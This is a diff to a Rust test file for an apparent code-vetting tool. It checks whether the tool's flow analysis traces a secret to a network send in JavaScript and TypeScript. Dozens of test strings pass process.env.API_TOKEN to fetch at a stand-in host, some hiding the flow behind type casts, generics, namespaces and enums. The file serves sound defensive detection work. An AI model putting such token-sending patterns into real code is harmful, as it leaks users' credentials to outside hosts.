@@ -1,4 +1,4 @@
-//! Shapes of JavaScript in which a secret does, or does not, get to a send.
+//! Shapes of JavaScript, and of TypeScript, in which a secret does, or does not, get to a send.
 
 #![allow(clippy::expect_used)] // A test says what it expects by panicking.
 
@@ -12,15 +12,16 @@ use skill_vet::semantics::flow::FlowGraph;
 use skill_vet::semantics::graph::Op;
 
 /// Whether the file's first secret or file read gets to what its last send is handed.
-fn reaches(code: &str) -> bool {
+fn reaches(language: Language, code: &str) -> bool {
     let queries = QuerySet::embedded();
-    let unit = Unit::script(Language::JavaScript, code, &queries);
+    let unit = Unit::script(language, code, &queries);
     let mut eval = Eval::new(&unit.graph, &unit.sources);
     let flow = FlowGraph::new(&mut eval, &[]);
     let is_source =
         |fact: FactType| matches!(fact, FactType::SecretRead | FactType::ReadOutside | FactType::Encode);
-    let source =
-        unit.facts.iter().find(|fact| is_source(fact.fact)).expect("a source").value.expect("its value");
+    let sources: Vec<_> =
+        unit.facts.iter().filter(|fact| is_source(fact.fact)).map(|fact| fact.value).collect();
+    assert!(!sources.is_empty(), "a source");
     let send = unit
         .facts
         .iter()
@@ -28,7 +29,7 @@ fn reaches(code: &str) -> bool {
         .expect("a send")
         .value
         .expect("its value");
-    let spread = flow.spread(&[Some(source)], &Default::default());
+    let spread = flow.spread(&sources, &Default::default());
     let mut sinks = vec![send];
     if let Op::Call(call) = unit.graph.op(send) {
         sinks.extend(argument_values(call));
@@ -78,7 +79,9 @@ fn a_secret_travels() {
         "const m = new Map(); m.set('k', process.env.API_TOKEN); for (const v of m.values()) fetch('https://f.example', v);",
         "const t = cond ? process.env.API_TOKEN : 'x'; fetch('https://f.example', t || 'y');",
     ] {
-        assert!(reaches(code), "{code}");
+        for language in [Language::JavaScript, Language::TypeScript] {
+            assert!(reaches(language, code), "{language:?}: {code}");
+        }
     }
 }
 
@@ -92,6 +95,36 @@ fn another_value_does_not() {
         "function a(t) { return t; } a(process.env.API_TOKEN); function b(t) { fetch('https://f.example', t); } b('x');",
         "class C { constructor() { this.t = process.env.API_TOKEN; this.u = 'x'; } go() { fetch('https://f.example', this.u); } }",
     ] {
-        assert!(!reaches(code), "{code}");
+        for language in [Language::JavaScript, Language::TypeScript] {
+            assert!(!reaches(language, code), "{language:?}: {code}");
+        }
+    }
+}
+
+#[test]
+fn a_secret_travels_through_types() {
+    for code in [
+        "const t = process.env.API_TOKEN! as string; fetch('https://f.example', <Body>{ t: t satisfies string });",
+        "class C { constructor(private readonly t: string, n?: number) {} go(): void { fetch('https://f.example', this.t); } } new C(process.env.API_TOKEN!).go();",
+        "class C<T> { protected t: T = process.env.API_TOKEN as T; go() { fetch('https://f.example', this.t!); } } new C<string>().go();",
+        "abstract class A { t?: string; abstract go(): void; } class B extends A { constructor() { super(); this.t = process.env.API_TOKEN; } override go() { fetch('https://f.example', this.t); } }",
+        "function s(this: Window, d: string, ...rest: string[]): void { fetch('https://f.example', d); } s(process.env.API_TOKEN!);",
+        "function s(d: string): void; function s(d?: string): void { fetch('https://f.example', d as any); } s(process.env.API_TOKEN!);",
+        "const s = async <T,>({ d }: { d: T }): Promise<void> => { await fetch('https://f.example', d!); }; s<string>({ d: process.env.API_TOKEN! });",
+        "namespace N { export const t: string = process.env.API_TOKEN!; export namespace M { export const u = t; } } fetch('https://f.example', N.M.u);",
+        "enum E { A = `${process.env.API_TOKEN}` as any } fetch('https://f.example', E.A);",
+        "const o = {} as Options; o!.headers!.k = process.env.API_TOKEN; fetch('https://f.example', o);",
+        "let t: string | undefined; (t as any) = process.env.API_TOKEN; fetch('https://f.example', t);",
+        "for (const t of [process.env.API_TOKEN] as const) fetch('https://f.example', t satisfies unknown);",
+        "function g(x: unknown = process.env.API_TOKEN): asserts x is string { fetch('https://f.example', x); }",
+    ] {
+        assert!(reaches(Language::TypeScript, code), "{code}");
+    }
+    for code in [
+        "class C { constructor(private t: string, private u: string) {} go() { use(this.t); fetch('https://f.example', this.u); } } new C(process.env.API_TOKEN!, 'x').go();",
+        "class C { constructor(t: string) {} go() { fetch('https://f.example', this.t); } } new C(process.env.API_TOKEN!).go();",
+        "const t = process.env.API_TOKEN as Secret; let u: typeof t; fetch('https://f.example', { a: 'x' } as { t: typeof t });",
+    ] {
+        assert!(!reaches(Language::TypeScript, code), "{code}");
     }
 }
